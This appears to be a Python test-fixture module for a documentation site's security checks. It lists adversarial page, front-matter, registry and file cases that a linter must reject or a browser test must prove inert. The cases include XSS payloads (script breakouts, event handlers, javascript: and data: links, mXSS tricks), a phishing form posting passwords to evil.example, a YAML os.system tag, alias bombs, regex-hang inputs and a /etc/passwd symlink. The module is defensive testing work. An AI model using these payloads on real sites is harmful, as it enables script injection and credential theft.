"""The adversarial corpus (issue 11): malicious or malformed edits a writer's pull request could make.

Each `Case` names its class (the issue's list), what it is (a page, its front
matter, a file), its content, and what must happen:

- "reject": `make check` and `make build` both report at least one finding
  whose rule starts with one of `rules`, and never a traceback;
- "clean":  a valid look-alike: no finding at all, and it builds;
- "inert":  it may build; its payload must not run (the browser test).

Payloads that would run set `window.PWNED` (scripts, handlers), so that the
browser tests can prove them inert in the built pages, reported or not.
`REGISTRY_CASES` are edits of hooks/registry.yml, `TAMPERED_DRAWING` a
pre-drawn diagram. `write_site(target)` lays out a copy of the site whose
docs/ holds every page case (each with its English counterpart) and the
file cases: tests/unit/tools/test_adversarial_check.py runs `make check`
on it, tests/build/test_adversarial_build.py builds it once, and
tests/browser/test_adversarial_inert.py serves what was built.
"""

from __future__ import annotations

import hashlib
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

from partner_guide.tools.site import copy_site

MARK = "window.PWNED=1"
FM = "---\ntitle: 测试\ndescription: 测试页面。\n---\n\n# 测试\n\n"


@dataclass(frozen=True)
class Case:
    name: str
    klass: str
    text: str | bytes
    expect: str = "reject"  # or "clean"
    kind: str = "page"  # page | front | registry | svg | file
    rules: tuple[str, ...] = ()  # any of these rule prefixes must be reported
    note: str = ""


def page(name: str, klass: str, body: str, expect: str = "reject", rules: tuple[str, ...] = (), note: str = "") -> Case:
    return Case(name, klass, FM + body, expect, "page", rules, note)


def front(name: str, klass: str, yaml_text: str, expect: str = "reject", rules: tuple[str, ...] = ()) -> Case:
    return Case(name, klass, f"---\n{yaml_text}---\n\n# 测试\n\n正文。\n", expect, "front", rules)


CASES: list[Case] = [
    # ---- front matter that templates print unescaped
    front(
        "fm-description-breakout",
        "front-matter",
        f"title: 测试\ndescription: '\"><script>{MARK}</script>'\n",
        rules=("FM-",),
    ),
    front(
        "fm-title-breakout",
        "front-matter",
        f'title: "</title><script>{MARK}</script>"\ndescription: 测试。\n',
        rules=("FM-",),
    ),
    front(
        "fm-subtitle",
        "front-matter",
        f'title: 测试\ndescription: 测试。\nsubtitle: "<img src=x onerror={MARK}>"\n',
        rules=("FM-",),
    ),
    front(
        "fm-faq-jsonld",
        "front-matter",
        f'title: 测试\ndescription: 测试。\nfaq_jsonld: "</script><script>{MARK}</script>"\n',
        rules=("FM-",),
    ),
    front(
        "fm-author-attr",
        "front-matter",
        f"title: 测试\ndescription: 测试。\nauthor: '\" onmouseover=\"{MARK}'\n",
        rules=("FM-",),
    ),
    front(
        "fm-template-missing", "theme-error", "title: 测试\ndescription: 测试。\ntemplate: nope.html\n", rules=("FM-",)
    ),
    front(
        "fm-template-traversal",
        "theme-error",
        "title: 测试\ndescription: 测试。\ntemplate: ../../../../etc/passwd\n",
        rules=("FM-",),
    ),
    front("fm-icon-missing", "theme-error", "title: 测试\ndescription: 测试。\nicon: material/nope\n", rules=("FM-",)),
    front("fm-status-unknown", "theme-error", "title: 测试\ndescription: 测试。\nstatus: nope\n", rules=("FM-",)),
    front("fm-hide-number", "theme-error", "title: 测试\ndescription: 测试。\nhide: 5\n", rules=("FM-",)),
    front("fm-hide-unknown", "front-matter", "title: 测试\ndescription: 测试。\nhide: [everything]\n", rules=("FM-",)),
    front(
        "fm-search-string",
        "front-matter",
        'title: 测试\ndescription: 测试。\nsearch: {exclude: "yes"}\n',
        rules=("FM-",),
    ),
    front("fm-title-list", "broken-content", "title: [a, b]\ndescription: 测试。\n", rules=("FM-",)),
    front("fm-title-mapping", "broken-content", "title: {a: b}\ndescription: 测试。\n", rules=("FM-",)),
    front("fm-title-number", "broken-content", "title: 42\ndescription: 测试。\n", rules=("FM-",)),
    front("fm-title-too-long", "front-matter", f"title: {'长' * 200}\ndescription: 测试。\n", rules=("FM-",)),
    front("fm-title-control", "front-matter", 'title: "a\\u0007b"\ndescription: 测试。\n', rules=("FM-",)),
    front("fm-title-newline", "front-matter", 'title: "a\\nb"\ndescription: 测试。\n', rules=("FM-",)),
    front(
        "fm-alias-bomb",
        "alias-bomb",
        'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n'
        "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
        "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"
        "title: 测试\ndescription: 测试。\n",
        rules=("YAML-ALIAS",),
    ),
    front("fm-anchor-only", "alias-bomb", "title: &t 测试\ndescription: 测试。\n", rules=("YAML-ALIAS",)),
    front(
        "fm-duplicate-key", "front-matter", "title: 测试\ndescription: 测试。\ntitle: 别的\n", rules=("YAML-DUPLICATE",)
    ),
    front(
        "fm-python-tag",
        "front-matter",
        'title: !!python/object/apply:os.system ["true"]\ndescription: 测试。\n',
        rules=("YAML-TAG",),
    ),
    front(
        "fm-deep-nesting",
        "nesting",
        "title: 测试\ndescription: 测试。\nx: " + "[" * 60 + "]" * 60 + "\n",
        rules=("YAML-DEPTH", "FM-"),
    ),
    front(
        "fm-merge-key", "front-matter", "title: 测试\ndescription: 测试。\nx:\n  <<: {a: 1}\n", rules=("YAML-MERGE",)
    ),
    # MultiMarkdown meta (`key: value` lines at the top, no ---): MkDocs would read them as the page's meta
    Case(
        "mmd-faq-jsonld",
        "front-matter",
        f"faq_jsonld: </script><script>{MARK}</script>\n\n# 测试\n\n正文。\n",
        rules=("SAFE-",),
        note="text on the page, never the page's meta (it was a script in the head)",
    ),
    Case(
        "mmd-template-missing",
        "theme-error",
        "template: nope.html\n\n# 测试\n\n正文。\n",
        rules=("META-",),
        note="text on the page, never a theme error; the page has no description",
    ),
    # ---- JSON-LD: a heading or answer that breaks out of the <script>
    page(
        "jsonld-script-close",
        "json-ld",
        f"## 为什么 `</script><script>{MARK}</script>` 会？ {{#q1}}\n\n回答。\n",
        expect="clean",
        note="the heading is legitimate text: the JSON-LD must escape it, the page stays clean",
    ),
    page(
        "jsonld-comment-script",
        "json-ld",
        "## 为什么 `<!--<script>` 会？ {#q2}\n\n回答 `<!--<script>`。\n",
        expect="clean",
        note="`<!--<script>` in a script element swallows the rest of the page unless escaped",
    ),
    # ---- attr_list
    page(
        "attr-onfocus-autofocus",
        "attr-list",
        f'段落文字\n{{: onfocus="{MARK}" autofocus tabindex="0" }}\n',
        rules=("SAFE-",),
    ),
    page("attr-heading-onclick", "attr-list", f'## 问题？ {{#q onclick="{MARK}"}}\n\n回答。\n', rules=("SAFE-",)),
    page("attr-link-href", "attr-list", f'[链接](#q){{: href="javascript:{MARK}" }}\n', rules=("SAFE-", "LINK-")),
    page("attr-image-onerror", "attr-list", f'![图](assets/x.png){{: onerror="{MARK}" }}\n', rules=("SAFE-",)),
    page(
        "attr-style-url",
        "attr-list",
        '文字\n{: style="background:url(https://evil.example/x.png)" }\n',
        rules=("SAFE-",),
    ),
    page("attr-class-overlay", "attr-list", "文字\n{: .md-dialog .md-dialog--active }\n", rules=("SAFE-CLASS",)),
    page("attr-id-clobber", "attr-list", "## 问题？ {#__config}\n\n回答。\n", rules=("SAFE-ID", "HYG-")),
    page("attr-name-form", "attr-list", '[链接](#q){: name="__search" target="_top" }\n', rules=("SAFE-",)),
    # ---- raw HTML the regexes misread
    page("svg-slash-onload", "raw-html", f"<svg/onload={MARK}>\n", rules=("SAFE-",)),
    page("attr-gt-in-quotes", "raw-html", f'<img alt=">" src="x" onerror="{MARK}">\n', rules=("SAFE-",)),
    page("attr-lt-in-quotes", "raw-html", f'<a title="<" href="javascript:{MARK}">x</a>\n', rules=("SAFE-", "LINK-")),
    page(
        "data-url-link",
        "raw-html",
        f'<a href="data:text/html,&lt;script&gt;{MARK}&lt;/script&gt;">x</a>\n',
        rules=("SAFE-", "LINK-"),
    ),
    page(
        "data-url-image",
        "raw-html",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">\n',
        rules=("SAFE-", "LINK-"),
    ),
    page(
        "svg-animate-values",
        "raw-html",
        f'<svg><a><animate attributeName="href" values="javascript:{MARK}"/><text x="20" y="20">点</text></a></svg>\n',
        rules=("SAFE-",),
    ),
    page(
        "svg-set-to",
        "raw-html",
        f'<svg><a><set attributeName="href" to="javascript:{MARK}"/><text y="20">点</text></a></svg>\n',
        rules=("SAFE-",),
    ),
    page("script-uppercase", "raw-html", f"<SCRIPT>{MARK}</SCRIPT>\n", rules=("SAFE-",)),
    page("script-newline-in-tag", "raw-html", f"<script\n>{MARK}</script\n>\n", rules=("SAFE-",)),
    page("script-nested-name", "raw-html", f"<scr<script>ipt>{MARK}</script>\n", rules=("SAFE-",)),
    page(
        "iframe-srcdoc",
        "raw-html",
        f'<iframe srcdoc="&lt;script&gt;parent.{MARK}&lt;/script&gt;"></iframe>\n',
        rules=("SAFE-",),
    ),
    page("object-data", "raw-html", '<object data="https://evil.example/x.swf"></object>\n', rules=("SAFE-",)),
    page("embed-src", "raw-html", '<embed src="https://evil.example/x.swf">\n', rules=("SAFE-",)),
    page("base-href", "raw-html", '<base href="https://evil.example/">\n', rules=("SAFE-",)),
    page(
        "meta-refresh",
        "raw-html",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
        rules=("SAFE-",),
    ),
    page(
        "link-stylesheet", "raw-html", '<link rel="stylesheet" href="https://evil.example/x.css">\n', rules=("SAFE-",)
    ),
    page("style-import", "raw-html", "<style>@import url(https://evil.example/x.css);</style>\n", rules=("SAFE-",)),
    page(
        "form-phishing",
        "raw-html",
        '<form action="https://evil.example/login"><input name="password"><button>登录</button></form>\n',
        rules=("SAFE-",),
    ),
    page("input-autofocus", "raw-html", f'<input onfocus="{MARK}" autofocus>\n', rules=("SAFE-",)),
    page(
        "details-ontoggle",
        "raw-html",
        f'<details open ontoggle="{MARK}"><summary>x</summary>y</details>\n',
        rules=("SAFE-",),
    ),
    page(
        "mxss-noscript",
        "raw-html",
        f'<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript>\n',
        rules=("SAFE-",),
    ),
    page(
        "mxss-math-style",
        "raw-html",
        f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>\n",
        rules=("SAFE-",),
    ),
    page("entity-javascript", "raw-html", f'<a href="&#106;avascript:{MARK}">x</a>\n', rules=("SAFE-", "LINK-")),
    page("tab-in-scheme", "raw-html", f'<a href="java&#x09;script:{MARK}">x</a>\n', rules=("SAFE-", "LINK-")),
    page("protocol-relative", "raw-html", '<a href="//evil.example/">x</a>\n', rules=("SAFE-", "LINK-")),
    page(
        "lookalike-host",
        "raw-html",
        '<a href="https://console.cloud.tencent.com.evil.example/">x</a>\n',
        rules=("SAFE-", "LINK-"),
    ),
    page(
        "userinfo-host",
        "raw-html",
        '<a href="https://console.cloud.tencent.com@evil.example/">x</a>\n',
        rules=("SAFE-", "LINK-"),
    ),
    page("backslash-host", "raw-html", '<a href="https:\\\\evil.example/">x</a>\n', rules=("SAFE-", "LINK-")),
    page(
        "img-srcset",
        "raw-html",
        '<img src="assets/x.png" srcset="https://evil.example/track.png 1x">\n',
        rules=("SAFE-",),
    ),
    page("button-formaction", "raw-html", f'<button formaction="javascript:{MARK}">x</button>\n', rules=("SAFE-",)),
    page(
        "md-in-html-handler",
        "raw-html",
        f'<div markdown="1" onmouseover="{MARK}">\n\n**粗体**\n\n</div>\n',
        rules=("SAFE-",),
    ),
    page(
        "table-cell-handler",
        "raw-html",
        f'| a | b |\n|---|---|\n| <span onclick="{MARK}">x</span> | y |\n',
        rules=("SAFE-",),
    ),
    page("markdown-link-javascript", "raw-html", f"[x](javascript:{MARK})\n", rules=("SAFE-", "LINK-")),
    page("markdown-link-angle-javascript", "raw-html", f"[x](<javascript:{MARK}>)\n", rules=("SAFE-", "LINK-")),
    page("markdown-image-javascript", "raw-html", f"![x](javascript:{MARK})\n", rules=("SAFE-", "LINK-")),
    page("markdown-link-vbscript", "raw-html", "[x](VBScript:msgbox)\n", rules=("SAFE-", "LINK-")),
    page(
        "svg-xlink",
        "raw-html",
        f'<svg><a xlink:href="javascript:{MARK}"><text y="20">x</text></a></svg>\n',
        rules=("SAFE-",),
    ),
    # ---- constructs Python-Markdown and browsers read differently from the scanner
    page("escaped-backticks", "scanner-differential", f'\\`<img src=x onerror="{MARK}">\\`\n', rules=("SAFE-",)),
    page(
        "codespan-in-html-block",
        "scanner-differential",
        f'<div>\n`<img src=x onerror="{MARK}">`\n</div>\n',
        rules=("SAFE-",),
    ),
    page(
        "comment-bang-close",
        "scanner-differential",
        f'<!-- note --!><img src=x onerror="{MARK}"><!-- -->\n',
        rules=("SAFE-",),
    ),
    page("comment-short-close", "scanner-differential", f'<!--><img src=x onerror="{MARK}">-->\n', rules=("SAFE-",)),
    page("unclosed-fence", "scanner-differential", f'文字\n\n```\n<img src=x onerror="{MARK}">\n', rules=("SAFE-",)),
    page(
        "rejected-fence",
        "scanner-differential",
        f'```python hl_lines="x"\nfoo ``` <img src=x onerror="{MARK}">\n```\n',
        rules=("SAFE-",),
    ),
    page(
        "rejected-fence-inert",
        "valid",
        f'```python hl_lines="x"\n<img src=x onerror="{MARK}">\n```\n',
        expect="clean",
        note="superfences rejects the fence: it renders as inline code, inert",
    ),
    page(
        "fence-closed-by-shorter",
        "scanner-differential",
        f'````\n```\n<img src=x onerror="{MARK}">\n',
        rules=("SAFE-",),
    ),
    page(
        "ref-def-next-line",
        "scanner-differential",
        f"[点我][evil]\n\n[evil]:\n    javascript:{MARK}\n",
        rules=("SAFE-", "LINK-"),
    ),
    page(
        "ref-def-angle",
        "scanner-differential",
        f"[点我][evil2]\n\n[evil2]: <javascript:{MARK}>\n",
        rules=("SAFE-", "LINK-"),
    ),
    page(
        "indented-raw-html-in-list",
        "scanner-differential",
        f'- 项目\n\n    <img src=x onerror="{MARK}">\n',
        rules=("SAFE-",),
        note="indented 4 spaces inside a list item: a paragraph of the item, so raw HTML, not code",
    ),
    # ---- broken content
    page("unclosed-div", "broken-content", "<div>\n\n## 问题？ {#q}\n\n**回答**。\n", rules=("HTML-UNCLOSED",)),
    page(
        "h1-title-entity",
        "theme-title",
        f"# 标题 &lt;img src=x onerror={MARK}&gt;\n\n正文。\n",
        expect="inert",
        note="the title comes from the h1: already escaped text, printed as such",
    ),
    page(
        "toc-label-html",
        "theme-title",
        f'## 问题？ {{#q data-toc-label="<img src=x onerror={MARK}>"}}\n\n回答。\n',
        expect="inert",
    ),
    # ---- nesting
    page("deep-list", "nesting", "".join("    " * i + "- x\n" for i in range(200)), rules=("LIMIT-NESTING",)),
    page("deep-quote", "nesting", ">" * 2000 + " x\n", rules=("LIMIT-NESTING",)),
    page("deep-quote-spaced", "nesting", "> " * 500 + "x\n", rules=("LIMIT-NESTING",)),
    # ---- pathological input for regexes (hangs)
    page("backtick-run", "hang", "`" * 50_000 + "\n", rules=("LIMIT-",)),
    page("backtick-pairs", "hang", "`a" * 30_000 + "\n", rules=("LIMIT-",)),
    page("long-unclosed-fence", "hang", "```\n" + "x\n" * 50_000, rules=("LIMIT-",)),
    page("many-comment-openers", "hang", "<!--\n" * 20_000, rules=("LIMIT-",)),
    page("huge-brace-id", "hang", "## 问题？ {#" + "a" * 60_000 + "\n", rules=("LIMIT-",)),
    page(
        "long-mermaid-line", "hang", "```mermaid\nflowchart TD\n" + "A" + "-->A" * 20_000 + "\n```\n", rules=("DIA-",)
    ),
    page("many-brackets", "hang", "[" * 50_000 + "\n", rules=("LIMIT-",)),
    page("many-lt", "hang", "<a " * 30_000 + "\n", rules=("LIMIT-",)),
    page("link-parens", "hang", "[x](" + "(" * 30_000 + "\n", rules=("LIMIT-",)),
    page("emphasis-run", "hang", "*a" * 30_000 + "\n", rules=("LIMIT-",)),
    page(
        "one-megabyte",
        "hang",
        ("[" * 30 + "<a " * 30 + "*a" * 100 + "`a" * 100 + f"<img src=x onerror={MARK}>\n\n") * 2000,
        rules=("LIMIT-SIZE",),
    ),
    page("growing-quotes", "nesting", "".join(">" * i + " x\n" for i in range(1, 400)), rules=("LIMIT-NESTING",)),
    page("deep-ordered-list", "nesting", "".join("    " * i + "1. x\n" for i in range(300)), rules=("LIMIT-NESTING",)),
    page("star-run", "nesting", "*" * 3000 + "x" + "*" * 3000 + "\n", rules=("LIMIT-RUN",)),
    # ---- valid look-alikes that must build clean
    Case("bom-page", "valid", ("\ufeff" + FM + "正文。\n"), "clean"),
    page(
        "script-in-fence-in-quote",
        "valid",
        "> 示例：\n>\n> ```html\n> <script>alert(1)</script>\n> ```\n",
        expect="clean",
    ),
    page("script-in-indented-code", "valid", "示例：\n\n    <script>alert(1)</script>\n", expect="clean"),
    page(
        "attr-value-with-equals", "valid", '<abbr title="a=b">AB</abbr> 与 [文档中心][doc-center]。\n', expect="clean"
    ),
    page("script-in-inline-code", "valid", "写 `<script>` 是不行的。\n", expect="clean"),
    page("onclick-word-in-prose", "valid", "online onboarding one=1 的说明。\n", expect="clean"),
    # issue 18: look-alikes the source scanner rejected, which the rendered page shows to be harmless text
    page(
        "on-equals-in-attribute-value",
        "valid",
        '<abbr title="size: one = small">S</abbr> 尺寸。\n',
        expect="clean",
        note="the scanner read ` one =` inside the value as an event handler (SAFE-EVENT)",
    ),
    page(
        "handler-text-in-attribute-value",
        "valid",
        '<abbr title="onclick=alert(1)">JS</abbr> 示例。\n',
        expect="clean",
        note="a title that talks about a handler is text (SAFE-EVENT before)",
    ),
    page(
        "tag-text-in-attribute-value",
        "valid",
        '<abbr title="<script> 标签">S</abbr> 说明。\n',
        expect="clean",
        note="`<script>` inside a quoted attribute value is text (SAFE-TAG before)",
    ),
    page("admonition-tencent", "valid", ">! 注意：签署前请核对。\n", expect="clean"),
    page("table-aligned", "valid", "| 左 | 中 | 右 |\n|:---|:---:|---:|\n| a | b | c |\n", expect="clean"),
    page(
        "registered-console-link",
        "valid",
        "见 [通知公告][announce] 与 <https://console.cloud.tencent.com/partners/apply>。\n",
        expect="clean",
    ),
    page("heading-ids-and-details", "valid", '## 问题？ {#q-1}\n\n??? note "展开"\n    内容。\n', expect="clean"),
    page("mermaid-diagram", "valid", "```mermaid\nflowchart TD\n  A[开始] --> B[结束]\n```\n", expect="clean"),
    # ---- files
    Case("invalid-utf8", "files", FM.encode() + b"\xe6\xb5\x8b\xff\xfe\n", "reject", "file", ("FILE-UTF8",)),
    Case("symlink-outside", "files", "/etc/passwd", "reject", "file", ("FILE-SYMLINK",)),
    Case("odd-file-name", "files", FM + "正文。\n", "reject", "file", ("FILE-NAME",)),
]

# name -> (text in hooks/registry.yml, its replacement, rule prefix expected)
REGISTRY_CASES: dict[str, tuple[str, str, str]] = {
    "registry-javascript-contact": (
        "url: https://admin.qidian.qq.com/template/blue/wpa/link.html",
        f'url: "javascript:{MARK}"',
        "REG-URL",
    ),
    "registry-name-newline": ("  announce:\n", '  "announce\\nx":\n', "REG-NAME"),
    "registry-duplicate-key": (
        "      path: /partners/apply\n",
        "      path: /partners/apply\n      path: /evil\n",
        "YAML-DUPLICATE",
    ),
    "registry-alias-bomb": (
        "console:\n",
        "bomb: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
        "more: [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nconsole:\n",
        "YAML-ALIAS",
    ),
    "registry-http-doc": (
        "url: https://cloud.tencent.com/document/product/555/7440",
        "url: http://cloud.tencent.com/document/product/555/7440",
        "REG-URL",
    ),
    "registry-lookalike-host": (
        "  - cloud.tencent.com",
        "  - cloud.tencent.com\n  - cloud-tencent.com.evil.example",
        "REG-URL",
    ),
    "registry-title-html": (
        "title: {zh: 通知公告, en: Announcements}",
        f'title: {{zh: "<img src=x onerror={MARK}>", en: Announcements}}',
        "REG-TEXT",
    ),
    "registry-tel-javascript": ("tel: tel:+8675586013388,75727", f'tel: "javascript:{MARK}"', "REG-CONTACT"),
}
# A pre-drawn diagram with an HTML label that runs a handler: replaces the label's <p>.
TAMPERED_LABEL = f'<p><img src="x" onerror="{MARK}"/>'
PAGE_KINDS = ("page", "front")


def page_cases() -> list[Case]:
    return [case for case in CASES if case.kind in PAGE_KINDS or case.name in ("invalid-utf8", "odd-file-name")]


def source_name(case: Case) -> str:
    return "odd name (1).md" if case.name == "odd-file-name" else f"{case.name}.md"


def write_site(root: Path, repo: Path, registry_edit: tuple[str, str] | None = None) -> Path:
    """A copy of the site at `root` whose docs/ holds every page case (docs/adv/<name>.md and .en.md)."""
    copy_site(root, navigation=False)  # no nav: every page of the copy is built
    if registry_edit:
        registry = root / "hooks" / "registry.yml"
        text = registry.read_text(encoding="utf-8")
        assert registry_edit[0] in text, registry_edit[0]
        registry.write_text(text.replace(registry_edit[0], registry_edit[1], 1), encoding="utf-8")
    docs = root / "docs"
    shutil.copytree(repo / "docs" / "assets", docs / "assets")
    for name in ("index.md", "index.en.md"):
        shutil.copy2(repo / "docs" / name, docs / name)
    adv = docs / "adv"
    adv.mkdir()
    for case in page_cases():
        data = case.text.encode("utf-8") if isinstance(case.text, str) else case.text
        stem = source_name(case)[:-3]
        (adv / f"{stem}.md").write_bytes(data)
        (adv / f"{stem}.en.md").write_bytes(data)
    os.symlink("/etc/passwd", docs / "assets" / "passwd.txt")
    return root


def tree_digest(folder: Path) -> dict[str, str]:
    """Every file under `folder` (links as their target's text) with its content's hash: proof nothing was written."""
    return {
        path.relative_to(folder).as_posix(): hashlib.sha256(
            os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
        ).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_symlink() or path.is_file()
    }
